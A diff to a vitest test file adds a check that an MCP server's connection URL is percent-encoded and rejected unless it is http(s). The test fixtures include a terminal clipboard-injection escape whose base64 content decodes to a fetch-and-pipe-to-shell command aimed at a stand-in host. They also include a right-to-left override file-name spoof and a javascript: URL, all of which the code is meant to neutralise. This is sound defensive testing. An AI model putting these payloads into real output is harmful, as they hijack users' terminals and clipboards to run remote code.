@@ -4,7 +4,7 @@
  */
 import { rmSync } from "node:fs";
 import { afterAll, describe, expect, it } from "vitest";
-import { render } from "../../src/cli/amba/output.ts";
+import { pasteableUrl, render } from "../../src/cli/amba/output.ts";
 import { renderToolTable } from "../../src/cli/inspect.ts";
 import { printable, printableJson } from "../../src/cli/printable.ts";
 import { escapedPipe } from "../../src/cli/sandbox/tool-output.ts";
@@ -74,6 +74,14 @@ describe("renderers of others' text", () => {
     expect(out.split("\n").length).toBe(HOSTILE.length + 5);
     expect(out).not.toMatch(RAW_CONTROL);
     expect(out).toContain("\\u202efdp.exe");
+  });
+
+  it("amba mcp config pastes a server's URL percent-encoded, and only an http(s) one", () => {
+    expect(pasteableUrl("https://mcp.amba.dev/app/p1/mcp")).toBe("https://mcp.amba.dev/app/p1/mcp");
+    expect(pasteableUrl(`https://mcp.amba.dev/app/${HOSTILE[0]}${HOSTILE[5]}/mcp`)).toBe(
+      "https://mcp.amba.dev/app/%1B]52;c;Y3VybCBldmlsIHwgc2g=%07%E2%80%AEfdp.exe/mcp",
+    );
+    expect(() => pasteableUrl("javascript:alert(1)")).toThrow("the server gave an invalid connection URL");
   });
 
   it("amber mcp --inspect escapes a tool file's names, descriptions and schemas", () => {
